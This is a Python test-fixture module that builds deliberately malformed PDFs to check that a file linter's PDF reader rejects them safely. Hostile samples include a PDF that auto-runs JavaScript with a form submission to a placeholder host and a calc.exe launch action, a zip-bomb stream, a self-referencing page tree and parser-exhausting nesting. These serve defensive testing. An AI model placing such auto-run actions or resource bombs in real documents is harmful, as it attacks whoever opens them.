"""Hostile PDFs built byte by byte (no PDF library): each a way a paper in a motion folder can be
broken. ``BAD_PDFS`` maps a file name to (bytes, the reader statuses that are acceptable for it)."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

from filelint.testing.pdfwrite import build


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text_pdf(pages: list[str], *, catalog_extra: bytes = b"", trailer: bytes = b"") -> bytes:
    """Pages of Helvetica text (an empty string gives a page with no text at all)."""
    n = len(pages)
    font = 3 + 2 * n
    kids = b" ".join(b"%d 0 R" % (3 + 2 * i) for i in range(n))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n,
    ]
    for i, text in enumerate(pages):
        content = b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET" if text else b""
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (4 + 2 * i, font)
        )
        objects.append(stream(content))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return build(objects, trailer=trailer)


GOOD = text_pdf(["NOTICE OF MOTION AND MOTION TO COMPEL FURTHER RESPONSES", "Page two of the notice."])


def image_only() -> bytes:
    """One page that paints a 2x2 grey image and has no text layer (a scan)."""
    pixels = bytes([0, 255, 255, 0])
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                b"/Resources << /XObject << /Im1 5 0 R >> >> >>"
            ),
            stream(b"q 540 0 0 720 36 36 cm /Im1 Do Q"),
            stream(
                pixels,
                b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 ",
            ),
        ]
    )


def encrypted() -> bytes:
    """A standard-security-handler dictionary whose user password is not empty: the O and U
    entries do not match the empty password, so no reader can open it without the password."""
    enc = b"<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <" + b"1f" * 32 + b"> /U <" + b"2e" * 32 + b"> >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream(b"\x8f\x11\x02garbage-ciphertext"),
        enc,
    ]
    return build(
        objects, trailer=b"/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] "
    )


def corrupt_xref() -> bytes:
    """Every xref offset and startxref point into nowhere, and the objects are mangled so that
    a reader's fallback scan finds no page either."""
    start = GOOD.index(b"xref\n")
    mangled = GOOD[:start].replace(b" obj", b" jbo").replace(b"/Type /Page", b"/Tpye /Egap")
    return (
        mangled + b"xref\n0 2\n0000000000 65535 f \n9999999999 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R >>\n"
        b"startxref\n987654321\n%%EOF\n"
    )


def page_tree_cycle() -> bytes:
    """The page tree contains itself: a naive walk of /Kids never ends."""
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        ]
    )


def deep_nesting(depth: int = 200_000) -> bytes:
    """A content stream of 200,000 nested arrays (recursion and memory in the parser)."""
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(b"[" * depth + b"]" * depth),
        ]
    )


def bad_flate() -> bytes:
    """The page's content claims to be Flate-compressed but is not."""
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(b"this is not zlib data at all", b"/Filter /FlateDecode "),
        ]
    )


def zip_bomb_stream() -> bytes:
    """A 40 KB Flate stream that inflates to 40 MB of spaces (no text)."""
    data = zlib.compress(b" " * (40 * 1024 * 1024), 9)
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(data, b"/Filter /FlateDecode "),
        ]
    )


def with_javascript() -> bytes:
    """An /OpenAction that runs JavaScript and a launch action; no text layer. Nothing may run."""
    js = b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/x');) >>"
    return text_pdf([""], catalog_extra=b"/OpenAction " + js + b" /AA << /O << /S /Launch /F (calc.exe) >> >> ")


def thousands_of_pages(n: int = 3000) -> bytes:
    """3,000 blank pages sharing one empty content stream (built in milliseconds)."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(n))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n,
        stream(b""),
        b"<< >>",
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources 4 0 R >>"] * n
    return build(objects)


def _one_page(
    content: bytes, font: bytes = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *more: bytes
) -> bytes:
    return build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                b"/Resources << /Font << /F1 5 0 R >> >> >>"
            ),
            stream(content),
            font,
            *more,
        ]
    )


def garbled_fonts() -> bytes:
    """Text drawn with a composite font that has no Unicode map: extraction gives (cid:N)."""
    return _one_page(
        b"BT /F1 12 Tf 72 720 Td <0001000200030004000500060007000800090010> Tj ET",
        b"<< /Type /Font /Subtype /Type0 /BaseFont /XYZ /Encoding /Identity-H /DescendantFonts [6 0 R] >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /XYZ "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>",
    )


def busy_content(operators: int = 600_000) -> bytes:
    """One page whose 4 MB content stream keeps pdfminer busy far beyond any sane time (the
    per-document time limit must stop it)."""
    return _one_page(b"BT /F1 1 Tf " + b"(x) Tj " * operators + b"ET")


def busy_files(folder: Path, count: int) -> list[Path]:
    """``count`` busy PDFs (`busy_content`) with distinct bytes, so that none is read once for another."""
    busy = busy_content()
    paths = [folder / f"busy{i}.pdf" for i in range(count)]
    for i, path in enumerate(paths):
        path.write_bytes(busy + b"%" + str(i).encode())
    return paths


UNREADABLE = {"corrupt", "error", "not-pdf", "timeout", "encrypted", "empty-file"}
NO_TEXT = {"no-text", "garbled"}
#: name -> (how to build it, statuses the PDF reader may give it; none of them is "ok").
BAD_PDFS: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "zero-bytes.pdf": (lambda: b"", {"empty-file"}),
    "html-named-pdf.pdf": (lambda: b"<!DOCTYPE html><html><body>Session expired</body></html>\n", {"not-pdf"}),
    "docx-named-pdf.pdf": (lambda: b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), {"not-pdf"}),
    "header-only.pdf": (lambda: b"%PDF-1.7\n", UNREADABLE),
    "header-then-garbage.pdf": (lambda: b"%PDF-1.4\n" + bytes(range(256)) * 40, UNREADABLE),
    "truncated.pdf": (lambda: GOOD[: len(GOOD) // 3], UNREADABLE | NO_TEXT),
    "corrupt-xref.pdf": (corrupt_xref, UNREADABLE | NO_TEXT),
    "encrypted.pdf": (encrypted, {"encrypted"}),
    "image-only.pdf": (image_only, NO_TEXT),
    "thousands-of-blank-pages.pdf": (thousands_of_pages, NO_TEXT | {"timeout"}),
    "javascript.pdf": (with_javascript, NO_TEXT),
    "page-tree-cycle.pdf": (page_tree_cycle, UNREADABLE | NO_TEXT),
    "deep-nesting.pdf": (deep_nesting, UNREADABLE | NO_TEXT),
    "bad-flate.pdf": (bad_flate, UNREADABLE | NO_TEXT),
    "zip-bomb-stream.pdf": (zip_bomb_stream, UNREADABLE | NO_TEXT),
    "garbled-fonts.pdf": (garbled_fonts, NO_TEXT),
    "pdfminer-busy-loop.pdf": (busy_content, {"timeout"}),
}
